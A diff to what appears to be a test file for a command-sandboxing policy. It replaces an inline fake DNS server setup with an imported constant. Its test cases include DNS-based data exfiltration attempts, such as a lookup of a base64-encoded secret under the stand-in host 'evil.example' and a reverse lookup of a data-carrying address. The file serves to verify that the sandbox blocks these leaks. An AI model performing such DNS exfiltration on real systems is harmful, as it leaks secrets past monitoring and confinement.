@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { confined, type ConfinedCase } from "./world.ts";
+import { confined, type ConfinedCase, NAME_SERVER } from "./world.ts";
 
 /**
  * Ways to leave the policy, from a command that has its ticket: nothing of it happens, and whoever wrote the line is told what was
@@ -40,7 +40,6 @@ const GOT = "cat /srv/told/got 2>/dev/null";
 const at = (path: string): string => Buffer.from(path, "latin1").toString("hex");
 const VICTIM = "sleep 50 & echo $! > /srv/told/victim";
 const LIVES = "kill -0 $(cat /srv/told/victim) && echo lives";
-const NAMES = `printf 'nameserver 127.0.0.9\n' > /srv/told/resolv; mount --bind /srv/told/resolv /etc/resolv.conf; printf '%s' 'import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.bind(("127.0.0.9",53));open("/srv/told/up","w").close()\nwhile True:\n d,a=s.recvfrom(512); open("/srv/told/got","ab").write(d)' > /srv/told/dns.py; python3 /srv/told/dns.py & until [ -e /srv/told/up ]; do sleep 0.02; done`;
 
 const CASES: readonly LeavingCase[] = [
   // Files outside.
@@ -252,14 +251,14 @@ const CASES: readonly LeavingCase[] = [
   },
   {
     name: "a name that carries data",
-    before: NAMES,
+    before: NAME_SERVER,
     script: python("import socket\ntry: socket.getaddrinfo('c2VjcmV0.evil.example', 80)\nexcept OSError as e: print(e)"),
     after: GOT,
     said: LOOKUP,
   },
   {
     name: "a name of an address that carries data",
-    before: NAMES,
+    before: NAME_SERVER,
     script: python("import socket\ntry: print(socket.gethostbyaddr('2001:db8::5ec:7e7'))\nexcept OSError as e: print(e)"),
     after: GOT,
     said: LOOKUP,
